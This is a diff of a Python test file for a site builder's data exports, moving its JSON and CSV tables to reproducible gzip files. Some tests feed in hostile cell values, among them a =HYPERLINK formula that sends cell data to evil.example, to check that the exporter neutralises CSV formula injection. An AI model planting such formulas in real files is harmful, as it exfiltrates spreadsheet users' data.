@@ -1,12 +1,15 @@
-"""Downloads: every table as JSON and CSV, each column documented in the codebook."""
+"""Downloads: every table as gzip-compressed JSON and CSV, each column documented in the codebook."""
 
 from __future__ import annotations
 
 import csv
 import dataclasses
 import datetime
+import gzip
 import io
 import json
+import time
+import zlib
 from collections.abc import Callable
 from pathlib import Path
 
@@ -14,7 +17,7 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from builder import Caches, GeneratedFile, Site, check_content, generate_pages
+from builder import Caches, Generated, GeneratedFile, Site, check_content, exports, generate_pages
 from builder.exports import (
     FORMULA_STARTS,
     KINDS,
@@ -25,11 +28,13 @@ from builder.exports import (
     _json_document,
     _json_row,
     render_exports,
+    size_label,
+    table_rows,
 )
 from builder.index import Index, build_index
 from builder.model import ClaimStatus
 from builder.schema import schema_text
-from tests.conftest import FIXTURE_CONTENT, REPO
+from tests.conftest import FIXTURE_CONTENT, REPO, build_site, make_project
 from tests.html import page, text_of
 from tests.test_feeds import FALSE_QUOTE_NOTE, TODAY, flagged_index, write_flagged_content
 
@@ -43,6 +48,15 @@ def index() -> Index:
 
 def _csv_rows(data: bytes) -> list[dict[str, str]]:
     return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))
+
+
+def _unpacked(files: dict[str, bytes], name: str, extension: str) -> bytes:
+    """A table's download as a reader gets it once unpacked: `data/NAME.EXTENSION.gz`, decompressed."""
+    return gzip.decompress(files[f"data/{name}.{extension}.gz"])
+
+
+def _site_file(site: Path, name: str, extension: str) -> bytes:
+    return gzip.decompress((site / "data" / f"{name}.{extension}.gz").read_bytes())
 
 
 def _as_in_csv(value: object) -> str:
@@ -62,11 +76,9 @@ def test_codebook_documents_every_column_emitted(fixture_site: Path) -> None:
         heading = codebook.find(id=table.name)
         assert heading is not None and heading.name == "h2", table.name
         documented = [row.find("td").get_text() for row in heading.find_next("table").find("tbody").find_all("tr")]
-        header = next(
-            csv.reader(io.StringIO((fixture_site / "data" / f"{table.name}.csv").read_text(encoding="utf-8")))
-        )
+        header = next(csv.reader(io.StringIO(_site_file(fixture_site, table.name, "csv").decode("utf-8"))))
         assert documented == header, table.name
-        rows = json.loads((fixture_site / "data" / f"{table.name}.json").read_text(encoding="utf-8"))
+        rows = json.loads(_site_file(fixture_site, table.name, "json"))
         assert rows and all(list(row) == documented for row in rows), table.name
 
 
@@ -74,21 +86,58 @@ def test_codebook_links_every_download_and_schema(fixture_site: Path) -> None:
     codebook = page(fixture_site, "data/")
     hrefs = {a["href"] for a in codebook.select("article a[href]")}
     for table in TABLES:
-        assert {f"{table.name}.json", f"{table.name}.csv"} <= hrefs, table.name
+        assert {f"{table.name}.json.gz", f"{table.name}.csv.gz"} <= hrefs, table.name
+        assert not {f"{table.name}.json", f"{table.name}.csv"} & hrefs, table.name
     schemas = sorted(p.name for p in (fixture_site / "data" / "schemas").glob("*.json"))
     assert {f"schemas/{name}" for name in schemas} <= hrefs
     assert (fixture_site / "data" / "schemas" / "article.schema.json").read_text(encoding="utf-8") == schema_text(
         "article"
     )
     assert "Data" in [a.get_text(strip=True) for a in page(fixture_site, "").select(".md-tabs__link")]
-    assert "Articles 3 JSON · CSV" in text_of(codebook)
+    sizes = {
+        kind: size_label((fixture_site / "data" / f"articles.{kind}.gz").stat().st_size) for kind in ("json", "csv")
+    }
+    assert f"Articles 3 JSON, gzip, {sizes['json']} · CSV, gzip, {sizes['csv']}" in text_of(codebook)
+    assert "pandas.read_csv(URL) infers it from the name" in text_of(codebook)
+
+
+def test_every_link_of_the_codebook_leads_to_a_file_of_the_size_it_shows(fixture_site: Path) -> None:
+    codebook = page(fixture_site, "data/")
+    downloads = {}
+    for link in codebook.select("article a[href]"):
+        href = link["href"]
+        if href.startswith("#") or href.endswith("/") or "#" in href:
+            continue  # a heading's permalink, or a page of the site
+        target = fixture_site / "data" / href
+        assert target.is_file(), href
+        if href.endswith(".gz"):
+            downloads[href] = link.get_text()
+            kind = "JSON" if href.endswith(".json.gz") else "CSV"
+            assert link.get_text() == f"{kind}, gzip, {size_label(target.stat().st_size)}", href
+            assert gzip.decompress(target.read_bytes()), href
+    expected = {f"{t.name}.{kind}.gz" for t in TABLES for kind in ("json", "csv")}
+    assert set(downloads) == expected
+    assert sorted(p.name for p in (fixture_site / "data").iterdir() if p.suffix == ".gz") == sorted(expected)
+
+
+def test_size_labels_read_as_readers_expect() -> None:
+    assert [size_label(n) for n in (0, 812, 1_000, 1_449, 96_400, 999_499, 4_588_732, 24_944_754)] == [
+        "0 bytes",
+        "812 bytes",
+        "1.0 kB",
+        "1.4 kB",
+        "96 kB",
+        "999 kB",
+        "4.6 MB",
+        "25 MB",
+    ]
 
 
 def test_csv_and_json_hold_the_same_rows(index: Index) -> None:
     files = render_exports(index, SITE)
     for table in TABLES:
-        from_json = json.loads(files[table.file("json")])
-        from_csv = _csv_rows(files[table.file("csv")])
+        from_json = json.loads(gzip.decompress(files[table.file("json")]))
+        from_csv = _csv_rows(gzip.decompress(files[table.file("csv")]))
         assert len(from_json) == len(from_csv) == len(list(table.rows(index))), table.name
         for json_row, csv_row in zip(from_json, from_csv, strict=True):
             for column in table.columns:
@@ -97,7 +146,7 @@ def test_csv_and_json_hold_the_same_rows(index: Index) -> None:
 
 def test_rows_carry_ids_dates_lists_and_page_addresses(index: Index) -> None:
     files = render_exports(index, SITE)
-    events = json.loads(files["data/events.json"])
+    events = json.loads(_unpacked(files, "events", "json"))
     assert events[0] == {
         "article": "2026-01-05-first-round",
         "number": 1,
@@ -114,7 +163,7 @@ def test_rows_carry_ids_dates_lists_and_page_addresses(index: Index) -> None:
         "page": "https://example.org/tracker/articles/2026-01-05-first-round/#event-1",
     }
     assert events[1]["date"] == "2025-12" and events[1]["id"] is None
-    actors = {row["id"]: row for row in json.loads(files["data/actors.json"])}
+    actors = {row["id"]: row for row in json.loads(_unpacked(files, "actors", "json"))}
     assert actors["ada-alpha"]["aliases"] == ["Ada Alfa", "Ada Alphova"]
     # The fixture is edited as features come: the count is checked against the summaries that name her.
     mentioning = [a for a in index.articles if "ada-alpha" in a.mentioned_actors]
@@ -133,8 +182,8 @@ def test_hostile_text_is_plain_data_in_csv_and_json(
     )
     files = render_exports(build_index(check_content(content_dir)), SITE)
     expected = 'a "quoted", comma\nnew line; =HYPERLINK("x") </script> ü'
-    assert expected in [row["headline"] for row in json.loads(files["data/articles.json"])]
-    assert expected in [row["headline"] for row in _csv_rows(files["data/articles.csv"])]
+    assert expected in [row["headline"] for row in json.loads(_unpacked(files, "articles", "json"))]
+    assert expected in [row["headline"] for row in _csv_rows(_unpacked(files, "articles", "csv"))]
 
 
 FORMULAS = {
@@ -172,7 +221,7 @@ def test_csv_cells_that_a_spreadsheet_would_run_are_marked_as_text(
     files = render_exports(build_index(check_content(content_dir)), SITE)
     marked: dict[str, list[str]] = {}
     for table in TABLES:
-        raw = files[table.file("csv")].decode("utf-8")
+        raw = gzip.decompress(files[table.file("csv")]).decode("utf-8")
         from_json, from_csv = _tables(files, table.name)
         for json_row, csv_row in zip(from_json, from_csv, strict=True):
             for column in table.columns:
@@ -195,12 +244,12 @@ def test_csv_cells_that_a_spreadsheet_would_run_are_marked_as_text(
         "outlets": ["country", "description"],
     }
     # JSON keeps the exact text, and a list is JSON text in its cell, which starts with "[".
-    articles = {row["id"]: row for row in json.loads(files["data/articles.json"])}
+    articles = {row["id"]: row for row in json.loads(_unpacked(files, "articles", "json"))}
     assert articles["2026-01-05-first-round"]["headline"] == '=HYPERLINK("https://evil.example/?"&A1,"open")'
     assert articles["2026-01-05-first-round"]["key_points"] == ["=1+1"]
-    first_round = {row["id"]: row for row in _csv_rows(files["data/articles.csv"])}["2026-01-05-first-round"]
+    first_round = {row["id"]: row for row in _csv_rows(_unpacked(files, "articles", "csv"))}["2026-01-05-first-round"]
     assert first_round["key_points"] == '["=1+1"]'
-    events = json.loads(files["data/events.json"])
+    events = json.loads(_unpacked(files, "events", "json"))
     assert (events[0]["what"][:1], events[0]["place"]) == ("\t", "\rGeneva")
 
 
@@ -230,14 +279,49 @@ def test_exports_are_the_same_on_every_build(index: Index) -> None:
     assert render_exports(index, SITE) == render_exports(index, SITE)
 
 
+def test_two_builds_give_byte_identical_gzip_files_of_the_same_tables(
+    fixture_site: Path, tmp_path: Path, index: Index
+) -> None:
+    again = build_site(make_project(tmp_path / "again"))
+    for table in TABLES:
+        for kind in ("csv", "json"):
+            first, second = (site / "data" / f"{table.name}.{kind}.gz" for site in (fixture_site, again))
+            assert first.read_bytes() == second.read_bytes(), first.name
+    files = render_exports(index, SITE)
+    for table in TABLES:
+        rows = table_rows(table, index, SITE)
+        # What the uncompressed downloads were, written from the rows as they were before compression.
+        header = _csv_line([column.name for column in table.columns])
+        lines = "".join(_csv_line([row[column.name] for column in table.columns]) for row in rows)
+        assert gzip.decompress(files[table.file("csv")]) == (header + lines).encode("utf-8"), table.name
+        assert gzip.decompress(files[table.file("json")]) == _json_document([_json_row(row) for row in rows])
+        for data in (files[table.file("csv")], files[table.file("json")]):
+            # RFC 1952: deflate, no flag (no file name, no comment), modification time 0, any operating system.
+            assert data[:10] == b"\x1f\x8b\x08\x00\x00\x00\x00\x00" + bytes([data[8], 255]), table.name
+            assert data[8] == {1: 4, 9: 2}.get(exports.GZIP_LEVEL, 0)
+            assert zlib.decompress(data, wbits=31) == gzip.decompress(data)  # a single, complete member
+    assert files["data/schemas/article.schema.json"] == schema_text("article").encode("utf-8")
+
+
+def test_a_gzip_file_depends_on_its_data_alone(monkeypatch: pytest.MonkeyPatch) -> None:
+    data = b'"id","headline"\r\n' * 500
+    first = exports.gzipped(data)
+    monkeypatch.setattr(time, "time", lambda: 2_000_000_000.0)  # gzip's default modification time
+    assert exports.gzipped(data) == first
+    with gzip.GzipFile(fileobj=io.BytesIO(first)) as unpacked:
+        assert unpacked.read() == data
+        assert unpacked.mtime == 0
+    assert gzip.decompress(exports.gzipped(b"")) == b""
+
+
 def _tables(files: dict[str, bytes], name: str) -> tuple[list[dict], list[dict[str, str]]]:
-    return json.loads(files[f"data/{name}.json"]), _csv_rows(files[f"data/{name}.csv"])
+    return json.loads(_unpacked(files, name, "json")), _csv_rows(_unpacked(files, name, "csv"))
 
 
 def test_quote_rows_carry_each_quotes_status_and_note(tmp_path: Path) -> None:
     files = render_exports(flagged_index(tmp_path), SITE)
     from_json, from_csv = _tables(files, "quotes")
-    header = next(csv.reader(io.StringIO(files["data/quotes.csv"].decode("utf-8"))))
+    header = next(csv.reader(io.StringIO(_unpacked(files, "quotes", "csv").decode("utf-8"))))
     assert header[-3:] == ["status", "note", "page"]
     expected = {
         ("2026-03-02-envoy-quote", 1): ("We will keep talking.", "reported", None),
@@ -262,7 +346,7 @@ def test_event_rows_carry_the_status_of_the_claim_they_rest_on(tmp_path: Path) -
     assert {(r["article"], int(r["number"])): (r["what"], r["claim"], r["claim_status"]) for r in from_csv} == {
         key: (what, claim or "", status or "") for key, (what, claim, status) in expected.items()
     }
-    header = next(csv.reader(io.StringIO(files["data/events.csv"].decode("utf-8"))))
+    header = next(csv.reader(io.StringIO(_unpacked(files, "events", "csv").decode("utf-8"))))
     assert header[-3:] == ["claim", "claim_status", "page"]
 
 
@@ -312,9 +396,9 @@ def test_a_status_edit_changes_the_rows_under_serve(
     edit_yaml(truce, "status: unverifiable\n    credibility: 4", 'status: "false"\n    credibility: 5')
     edit_yaml(content / "articles" / "2026-03-02-envoy-quote.yaml", 'status: "false"', "status: disputed")
     files = cached()
-    events = {(r["article"], int(r["number"])): r["claim_status"] for r in _csv_rows(files["data/events.csv"])}
+    events = {(r["article"], int(r["number"])): r["claim_status"] for r in _csv_rows(_unpacked(files, "events", "csv"))}
     assert events[("2026-03-03-truce", 1)] == "false"
-    quotes = {(r["article"], r["number"]): r["status"] for r in json.loads(files["data/quotes.json"])}
+    quotes = {(r["article"], r["number"]): r["status"] for r in json.loads(_unpacked(files, "quotes", "json"))}
     assert quotes[("2026-03-02-envoy-quote", 2)] == "disputed"
 
 
@@ -328,23 +412,55 @@ def test_a_kept_event_row_is_written_again_when_its_claim_changes(tmp_path: Path
     edited = dataclasses.replace(index, content=dataclasses.replace(index.content, claims=claims))
     files = render_exports(edited, SITE, memo)
     assert files == render_exports(edited, SITE)
-    rows = {(r["article"], r["number"]): r["claim_status"] for r in json.loads(files["data/events.json"])}
+    rows = {(r["article"], r["number"]): r["claim_status"] for r in json.loads(_unpacked(files, "events", "json"))}
     assert rows[("2026-03-03-truce", 1)] == "confirmed"
+
+
+def test_only_a_table_whose_rows_changed_is_compressed_again_under_serve(
+    tmp_path: Path, edit_yaml: Callable[[Path, str, str], None], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    content = write_flagged_content(tmp_path)
+    caches = Caches()
+    compressed: list[bytes] = []
+    gzipped = exports.gzipped
+    monkeypatch.setattr(exports, "gzipped", lambda data: compressed.append(data) or gzipped(data))
+
+    def cached() -> dict[str, bytes]:
+        compressed.clear()
+        pages = generate_pages(check_content(content, TODAY, caches), SITE, caches)
+        return _downloads(pages)
+
+    first = cached()
+    assert len(compressed) == 2 * len(TABLES)
+    assert cached() == first and compressed == []
+    edit_yaml(content / "articles" / "2026-03-02-envoy-quote.yaml", 'status: "false"', "status: disputed")
+    edited = cached()
+    changed = sorted(path for path in first if edited[path] != first[path])
+    assert changed == ["data/quotes.csv.gz", "data/quotes.json.gz"]
+    assert sorted(compressed) == sorted(gzip.decompress(edited[path]) for path in changed)
+    assert edited == _downloads(generate_pages(check_content(content, TODAY), SITE))
+
+
+def _downloads(pages: dict[str, Generated]) -> dict[str, bytes]:
+    """The data files of a build: the tables and the schemas."""
+    return {
+        path: file.data for path, file in pages.items() if isinstance(file, GeneratedFile) and path.startswith("data/")
+    }
 
 
 def test_real_rows_carry_the_statuses_of_the_content() -> None:
     index = build_index(check_content(REPO / "content"))
     files = render_exports(index, SITE)
     quotes = {q.anchor + "@" + q.article: q for a in index.articles for q in a.quotes}
-    for row in json.loads(files["data/quotes.json"]):
+    for row in json.loads(_unpacked(files, "quotes", "json")):
         quote = quotes[f"quote-{row['number']}@{row['article']}"]
         assert (row["status"], row["note"]) == (quote.status.value, quote.note or None), row["page"]
-    events = json.loads(files["data/events.json"])
+    events = json.loads(_unpacked(files, "events", "json"))
     for row in events:
         claim = index.content.claims.get(row["claim"] or "")
         assert row["claim_status"] == (claim.status.value if claim else None), row["page"]
     assert any(row["claim_status"] in ("disputed", "false", "unverifiable") for row in events)
-    for row in json.loads(files["data/claims.json"]):
+    for row in json.loads(_unpacked(files, "claims", "json")):
         claim = index.content.claims[row["id"]]
         assert (row["status"], row["about"]) == (claim.status.value, list(claim.about)), row["id"]
 
